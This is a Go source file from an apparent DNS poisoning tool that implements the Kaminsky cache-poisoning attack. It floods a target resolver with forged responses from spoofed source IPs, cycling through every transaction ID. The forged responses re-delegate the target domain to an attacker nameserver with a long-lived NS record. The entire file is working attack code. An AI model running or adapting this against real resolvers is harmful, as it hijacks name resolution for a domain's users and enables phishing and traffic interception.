// Package attack orchestrates the Kaminsky cache-poisoning attack of
// spec §4.8: a single-threaded, blocking-I/O loop that races a legitimate
// recursive query against a flood of forged responses enumerating the
// full 16-bit transaction-ID space.
package attack

import (
	"context"
	"fmt"
	"net"
	"strings"
	"time"

	"golang.org/x/time/rate"

	"github.com/dnskaminsky/poisoner/internal/dnscodec"
	"github.com/dnskaminsky/poisoner/internal/eventbus"
	"github.com/dnskaminsky/poisoner/internal/query"
	"github.com/dnskaminsky/poisoner/internal/random"
	"github.com/dnskaminsky/poisoner/internal/response"
	"github.com/dnskaminsky/poisoner/internal/spoof"
)

// subdomainLength is the length of the random label spec §4.8 step 1
// prescribes.
const subdomainLength = 7

// authorityTTL is the large TTL carried on the forged NS delegation, so
// a successful substitution stays cached well past this run.
const authorityTTL = 240

// Config are the inputs to RunAttack, spec §4.8.
type Config struct {
	AttackerNS        string
	TargetDomain      string
	TargetResolverIP  net.IP
	SpoofedSrcIPs     []net.IP
	Duration          time.Duration
	Delay             time.Duration
	DstPort           uint16 // forged-packet destination port; 0 = spoof package default (33333)

	Limiter *rate.Limiter // optional pacing of the forged flood
	Metrics *Metrics      // optional
	Events  *eventbus.Bus // optional
}

// Result reports how far the attack got before its deadline, per spec
// §5's "report how many IDs were tried" requirement.
type Result struct {
	RoundsCompleted int
	IDsTried        int
}

// RunAttack drives the Kaminsky attack until ctx is canceled or cfg.Duration
// elapses, repeating the random-subdomain/flood cycle (spec §4.8 steps 1–6).
func RunAttack(ctx context.Context, cfg Config) (Result, error) {
	if len(cfg.SpoofedSrcIPs) == 0 {
		return Result{}, fmt.Errorf("attack: at least one spoofed source IP is required")
	}

	tracker, err := random.NewSubdomainTracker()
	if err != nil {
		return Result{}, fmt.Errorf("attack: %w", err)
	}

	spoofers := make(map[string]*spoof.Spoofer, len(cfg.SpoofedSrcIPs))
	defer func() {
		for _, s := range spoofers {
			s.Close()
		}
	}()
	for _, ip := range cfg.SpoofedSrcIPs {
		s, err := spoof.New(spoof.Config{
			SpoofedSrcIP: ip,
			DstIP:        cfg.TargetResolverIP,
			MaxPayload:   512,
			DstPort:      cfg.DstPort,
		})
		if err != nil {
			return Result{}, fmt.Errorf("attack: init spoofer for %s: %w", ip, err)
		}
		spoofers[ip.String()] = s
	}

	realQueryConn, err := net.Dial("udp4", net.JoinHostPort(cfg.TargetResolverIP.String(), "53"))
	if err != nil {
		return Result{}, fmt.Errorf("attack: dial target resolver: %w", err)
	}
	defer realQueryConn.Close()

	deadline := time.Now().Add(cfg.Duration)
	result := Result{}

	for time.Now().Before(deadline) && ctx.Err() == nil {
		idsThisRound, err := runRound(ctx, cfg, tracker, spoofers, realQueryConn, deadline)
		result.IDsTried += idsThisRound
		result.RoundsCompleted++
		if cfg.Metrics != nil {
			cfg.Metrics.RoundsStarted.Inc()
		}
		if err != nil {
			return result, err
		}
	}

	return result, nil
}

// runRound executes one full iteration of spec §4.8 steps 1–5: a fresh
// subdomain, the real query, and the forged-response flood across every
// spoofed source IP.
func runRound(
	ctx context.Context,
	cfg Config,
	tracker *random.SubdomainTracker,
	spoofers map[string]*spoof.Spoofer,
	realQueryConn net.Conn,
	deadline time.Time,
) (int, error) {
	subdomain, err := random.FreshSubdomain(tracker, subdomainLength)
	if err != nil {
		return 0, fmt.Errorf("attack: generate subdomain: %w", err)
	}
	fqdn := subdomain + "." + cfg.TargetDomain

	q, err := query.BuildOne(fqdn)
	if err != nil {
		return 0, fmt.Errorf("attack: build query for %s: %w", fqdn, err)
	}

	forged, err := buildForgedResponse(q, fqdn, cfg.TargetDomain, cfg.AttackerNS)
	if err != nil {
		return 0, fmt.Errorf("attack: build forged response: %w", err)
	}

	queryBytes, err := q.Emit()
	if err != nil {
		return 0, fmt.Errorf("attack: emit query: %w", err)
	}

	realQueryConn.SetWriteDeadline(time.Now().Add(10 * time.Second))
	if _, err := realQueryConn.Write(queryBytes); err != nil {
		return 0, fmt.Errorf("attack: send real query: %w", err)
	}

	if cfg.Events != nil {
		cfg.Events.Publish(ctx, eventbus.TopicRound, map[string]any{
			"subdomain": subdomain,
			"fqdn":      fqdn,
		})
	}

	idsTried := 0
	for _, srcIP := range cfg.SpoofedSrcIPs {
		if time.Now().After(deadline) || ctx.Err() != nil {
			return idsTried, nil
		}

		if cfg.Delay > 0 {
			time.Sleep(cfg.Delay)
		}

		s := spoofers[srcIP.String()]
		n, err := floodBurst(ctx, s, forged, cfg, deadline)
		idsTried += n
		if err != nil {
			return idsTried, err
		}
		if cfg.Metrics != nil {
			cfg.Metrics.BurstsCompleted.Inc()
		}
		if cfg.Events != nil {
			cfg.Events.Publish(ctx, eventbus.TopicBurst, map[string]any{
				"spoofed_src_ip": srcIP.String(),
				"subdomain":      subdomain,
				"ids_tried":      n,
			})
		}
	}

	return idsTried, nil
}

// floodBurst transmits forged copies of resp with strictly increasing
// transaction IDs from 0 through 65535, stopping early if the wall-clock
// deadline passes. Per the original implementation's hot-path design,
// only the ID's two header bytes are rewritten between sends rather than
// re-encoding the whole message.
func floodBurst(ctx context.Context, s *spoof.Spoofer, resp dnscodec.Message, cfg Config, deadline time.Time) (int, error) {
	resp.Header.ID = 0
	payload, err := resp.Emit()
	if err != nil {
		return 0, fmt.Errorf("attack: emit forged response: %w", err)
	}

	tried := 0
	for id := 0; id <= 65535; id++ {
		if time.Now().After(deadline) || ctx.Err() != nil {
			return tried, nil
		}

		payload[0] = byte(id >> 8)
		payload[1] = byte(id)

		if cfg.Limiter != nil {
			if err := cfg.Limiter.Wait(ctx); err != nil {
				return tried, nil
			}
		}

		if err := s.Send(payload); err != nil {
			if cfg.Metrics != nil {
				cfg.Metrics.SendErrors.Inc()
			}
			// Soft failure: count-and-continue (SendErrors, when Metrics
			// is set) rather than abort the whole burst over one dropped
			// datagram. The error itself is not logged.
			tried++
			if cfg.Metrics != nil {
				cfg.Metrics.IDsTried.Inc()
			}
			continue
		}

		tried++
		if cfg.Metrics != nil {
			cfg.Metrics.IDsTried.Inc()
			cfg.Metrics.PacketsForged.Inc()
		}

		if id == 65535 {
			break
		}
	}

	return tried, nil
}

// buildForgedResponse assembles the payload of spec §4.8 step 3: an A
// answer for fqdn with TTL=0, and an authority NS record re-delegating
// targetDomain to attackerNS with a large TTL.
func buildForgedResponse(q dnscodec.Message, fqdn, targetDomain, attackerNS string) (dnscodec.Message, error) {
	fqdnName, err := dnscodec.FromString(fqdn)
	if err != nil {
		return dnscodec.Message{}, err
	}
	domainName, err := dnscodec.FromString(targetDomain)
	if err != nil {
		return dnscodec.Message{}, err
	}
	nsName, err := dnscodec.FromString(attackerNS)
	if err != nil {
		return dnscodec.Message{}, err
	}

	r := response.New(q)
	r.AddAnswer(response.A{Name: fqdnName, TTL: 0, IP: [4]byte{127, 0, 0, 1}})
	r.AddAuthority(response.NS{Name: domainName, TTL: authorityTTL, NS: nsName})

	return r.ToMessage()
}

// dropFirstLabel derives a zone name from a hostname by dropping its
// leftmost label (www.example.com -> example.com), the domain-derivation
// rule spoof mode uses in the absence of an explicit --target-domain flag.
func dropFirstLabel(hostname string) (string, error) {
	parts := strings.SplitN(hostname, ".", 2)
	if len(parts) != 2 || parts[1] == "" {
		return "", fmt.Errorf("attack: %q has no parent domain to derive", hostname)
	}
	return parts[1], nil
}
